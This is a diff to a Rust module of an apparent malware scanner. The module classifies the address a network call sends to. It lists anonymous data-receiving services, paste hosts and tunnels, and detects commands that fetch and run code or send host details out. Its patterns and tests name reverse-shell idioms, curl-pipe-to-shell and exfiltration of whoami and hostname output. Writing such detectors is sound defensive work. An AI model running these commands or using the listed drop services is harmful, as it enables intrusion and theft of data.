@@ -1,15 +1,32 @@
 //! Where things are sent to and fetched from, and commands that fetch.
+//!
+//! The one decision: what counts is the address that is handed to the call that sends or fetches. That a file names an
+//! address somewhere makes harm likelier and never is a path.
 
-/// Parts of addresses that take what anybody sends, or give what anybody left, without telling who.
-const DROPS: &[&str] = &[
-    "discord.com/api/webhooks",
-    "discordapp.com/api/webhooks",
-    "api.telegram.org/bot",
+/// What is known of the other end of a path, the least telling first.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub(super) enum End {
+    /// Whoever calls, or a configuration, says it.
+    #[default]
+    Given,
+    /// The host is written in the code, the rest is put together.
+    Host,
+    /// The whole address is written in the code.
+    Fixed,
+    /// It is written in the code, and of a kind that anybody can have without a name.
+    Anonymous,
+    /// The same, and made to take what anybody sends.
+    Receiver,
+}
+
+/// Parts of addresses that take what anybody sends, and tell only whoever set them up.
+const RECEIVERS: &[&str] = &[
     "webhook.site",
     "pipedream.net",
     "ngrok.io",
     "ngrok.app",
     "ngrok-free.app",
+    "ngrok-free.dev",
     "burpcollaborator.net",
     "oastify.com",
     "interact.sh",
@@ -17,8 +34,31 @@ const DROPS: &[&str] = &[
     "requestbin",
     "beeceptor.com",
     "canarytokens",
+    "requestcatcher.com",
+    "hookbin",
+    "dnslog.cn",
+    "ceye.io",
+    "eyes.sh",
+    "grabify",
+    "iplogger",
+    "trycloudflare.com",
+    "serveo.net",
+    "loca.lt",
+    "localhost.run",
+];
+
+/// Addresses that are a receiver only with the number of an account behind them.
+const ACCOUNTS: &[&str] = &[
+    "discord.com/api/webhooks/",
+    "discordapp.com/api/webhooks/",
+    "api.telegram.org/bot",
+];
+
+/// Parts of addresses that give what anybody left there.
+const LEFT: &[&str] = &[
     "pastebin.com",
     "paste.ee",
+    "paste.bingner.com",
     "hastebin",
     "rentry.co",
     "transfer.sh",
@@ -26,21 +66,21 @@ const DROPS: &[&str] = &[
     "gofile.io",
     "anonfiles",
     "cdn.discordapp.com",
+    "media.discordapp.net",
+    "dl.dropbox.com",
     "dpaste.",
-    "trycloudflare.com",
-    "serveo.net",
-    "loca.lt",
-    "bit.ly/",
-    "tinyurl.com",
-    "grabify",
-    "iplogger",
+    "ix.io/",
+    "termbin.com",
+    "catbox.moe",
     ".onion",
-    "dnslog.cn",
-    "ceye.io",
-    "eyes.sh",
-    "requestcatcher.com",
-    "hookbin",
     "mocky.io",
+];
+
+/// Parts of addresses that anybody can have for a program of his own, honest ones too.
+const RENTED: &[&str] = &[
+    "api.telegram.org/bot",
+    "discord.com/api/webhooks",
+    "discordapp.com/api/webhooks",
     "replit.dev",
     "repl.co",
     "glitch.me",
@@ -50,29 +90,87 @@ const DROPS: &[&str] = &[
     "herokuapp.com",
     "vercel.app",
     "workers.dev",
+    "bit.ly/",
+    "tinyurl.com",
 ];
 
-/// Whether a text names such an address, or one by number.
+/// What the words given to a call say of the other end.
+pub(super) fn end_of(given: &str) -> End {
+    let mut end = if is_receiver(given) {
+        End::Receiver
+    } else {
+        End::Given
+    };
+    for (at, _) in given.match_indices("://") {
+        let rest = given.get(at.saturating_add(3)..).unwrap_or_default();
+        let stop =
+            |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '|' | ',' | ')' | ']' | '}' | '>' | '`');
+        let address = rest.split(stop).next().unwrap_or_default();
+        let host = address.split(['/', ':', '?', '#']).next().unwrap_or_default();
+        let written = |part: &str| !part.is_empty() && !part.contains(['…', '$', '{', '%']);
+        end = end.max(
+            if has_numeric_host(given.get(at..).unwrap_or_default())
+                || LEFT.iter().any(|d| address.contains(d))
+            {
+                End::Anonymous
+            } else if written(address) && host.contains('.') {
+                End::Fixed
+            } else if written(host) && host.contains('.') {
+                End::Host
+            } else {
+                End::Given
+            },
+        );
+    }
+    end
+}
+
+/// Whether words name an address that takes what anybody sends.
+pub(super) fn is_receiver(given: &str) -> bool {
+    let numbered = |account: &&str| {
+        given.match_indices(*account).any(|(at, found)| {
+            let after = given.get(at.saturating_add(found.len())..).unwrap_or_default();
+            after.starts_with(|c: char| c.is_ascii_digit())
+        })
+    };
+    RECEIVERS.iter().any(|d| given.contains(d)) || ACCOUNTS.iter().any(numbered)
+}
+
+/// Whether words hold the address of a host by a public number, as the first part of a pair of host and port.
+pub(super) fn names_public_number(given: &str) -> bool {
+    let words = given.split(|c: char| !(c.is_ascii_digit() || c == '.'));
+    words
+        .filter(|w| w.matches('.').count() == 3)
+        .any(is_public_number)
+}
+
+/// Whether a text names an address that anybody can have, or one by number.
 pub(super) fn is_drop(text: &str) -> bool {
-    DROPS.iter().any(|d| text.contains(d)) || has_numeric_host(text)
+    [RECEIVERS, LEFT, RENTED]
+        .iter()
+        .any(|list| list.iter().any(|d| text.contains(d)))
+        || has_numeric_host(text)
 }
 
 /// An address by number that is not of this machine or of a network behind a router.
 fn has_numeric_host(text: &str) -> bool {
     text.match_indices("://").any(|(at, _)| {
         let rest = text.get(at.saturating_add(3)..).unwrap_or_default();
-        let host = rest
-            .split(['/', ':', '?', '"', '\'', ' '])
-            .next()
-            .unwrap_or_default();
-        let parts: Option<Vec<u8>> = host.split('.').map(|p| p.parse().ok()).collect();
-        match parts.as_deref() {
-            Some([127 | 10 | 0, _, _, _] | [192, 168, _, _] | [169, 254, _, _]) => false,
-            Some([172, second, _, _]) => !(16..32).contains(second),
-            Some([_, _, _, _]) => true,
-            _ => false,
-        }
+        let stop = ['/', ':', '?', '"', '\'', ' ', ',', '|', ']', ')'];
+        is_public_number(rest.split(stop).next().unwrap_or_default())
     })
+}
+
+/// Whether a word is the public address of one host; those of name servers, which programs ask for their own, are not.
+fn is_public_number(host: &str) -> bool {
+    let parts: Option<Vec<u8>> = host.split('.').map(|p| p.parse().ok()).collect();
+    match parts.as_deref() {
+        Some([127 | 10 | 0, _, _, _] | [192, 168, _, _] | [169, 254, _, _] | [224..=255, _, _, _]) => false,
+        Some([8, 8, 8, 8] | [8, 8, 4, 4] | [1, 1, 1, 1] | [1, 0, 0, 1] | [9, 9, 9, 9]) => false,
+        Some([172, second, _, _]) => !(16..32).contains(second),
+        Some([_, _, _, _]) => true,
+        _ => false,
+    }
 }
 
 /// Whether a command fetches something and runs it.
@@ -81,15 +179,16 @@ pub(crate) fn fetches_and_runs(command: &str) -> bool {
     let fetches = [
         "curl",
         "wget",
-        "http://",
-        "https://",
         "downloadstring",
         "downloadfile",
         "bitsadmin",
         "certutil",
+        "invoke-webrequest",
+        "iwr ",
     ]
     .iter()
     .any(|w| text.contains(w));
+    let names = text.contains("http://") || text.contains("https://");
     let runs = [
         "| sh",
         "|sh",
@@ -106,11 +205,42 @@ pub(crate) fn fetches_and_runs(command: &str) -> bool {
     .any(|w| text.contains(w));
     let powershell = text.contains("powershell") || text.contains("pwsh");
     let mshta = text.contains("mshta");
-    fetches && (runs || mshta)
-        || powershell && (fetches || hides(&text))
+    fetches && runs
+        || names && mshta
+        || powershell && (fetches || names || hides(&text))
         || text.contains("/dev/tcp/")
         || text.contains("nc -e ")
         || text.contains("bash -i")
+}
+
+/// Whether a command hands the network what other commands say of the host or its user.
+pub(super) fn tells_of_host(command: &str) -> bool {
+    let speaks = ["curl ", "wget ", "nslookup ", "dig ", "ping ", "nc "];
+    let (Some(_), true) = (
+        speaks.iter().find(|w| command.contains(*w)),
+        command.contains("$(")
+            || command.contains('`')
+            || command.contains("| curl")
+            || command.contains("%USERNAME%"),
+    ) else {
+        return false;
+    };
+    [
+        "whoami",
+        "hostname",
+        "$(id",
+        "`id`",
+        "ifconfig",
+        "uname",
+        "$(env",
+        "`env`",
+        "/etc/passwd",
+        "$(pwd",
+        "env |",
+        "%USERNAME%",
+    ]
+    .iter()
+    .any(|w| command.contains(w))
 }
 
 /// Options of PowerShell that keep what it runs from being seen.
@@ -139,6 +269,45 @@ mod tests {
     }
 
     #[test]
+    fn the_other_end_is_what_the_call_is_given() {
+        for (given, expected) in [
+            ("url, json=…", End::Given),
+            ("…/v1/chat, json=…", End::Given),
+            ("https://…/v1", End::Given),
+            ("https://nodejs.example/dist/…, timeout=3", End::Host),
+            ("https://a.example/x.exe", End::Fixed),
+            ("https://a.example/x.exe|None", End::Fixed),
+            ("http://203.0.113.9:8080/x", End::Anonymous),
+            ("http://127.0.0.1:8080/x", End::Fixed),
+            ("https://1.1.1.1/dns-query", End::Fixed),
+            ("https://pastebin.com/raw/x", End::Anonymous),
+            ("https://webhook.site/1-2", End::Receiver),
+            ("….x.oastify.com", End::Receiver),
+            ("https://discord.com/api/webhooks/123/abc, data=…", End::Receiver),
+            ("https://discord.com/api/webhooks/…/…, data=…", End::Host),
+            ("https://api.telegram.org/bot…/sendMessage", End::Host),
+            ("https://api.telegram.org/bot123:AA/sendMessage", End::Receiver),
+        ] {
+            assert_eq!(end_of(given), expected, "{given}");
+        }
+        assert!(names_public_number("[203.0.113.9, 4444]"));
+        assert!(!names_public_number("[8.8.8.8, 80]"));
+        assert!(!names_public_number("[192.168.1.2, 80]"));
+    }
+
+    #[test]
+    fn commands_that_tell_of_the_host_are_known() {
+        for (command, expected) in [
+            ("curl -d $(whoami) https://a.example", true),
+            ("nslookup `hostname`.a.example", true),
+            ("curl https://a.example/data", false),
+            ("git commit -m $(hostname)", false),
+        ] {
+            assert_eq!(tells_of_host(command), expected, "{command}");
+        }
+    }
+
+    #[test]
     fn commands_that_run_what_they_fetch_are_told_from_others() {
         for (command, expected) in [
             ("curl https://a.example/x | sh", true),
@@ -148,6 +317,8 @@ mod tests {
             ("curl -O https://a.example/data.zip", false),
             ("powershell Get-Date", false),
             ("make start ", false),
+            ("start https://acme.example/docs", false),
+            ("mshta https://a.example/x.hta", true),
         ] {
             assert_eq!(fetches_and_runs(command), expected, "{command}");
         }
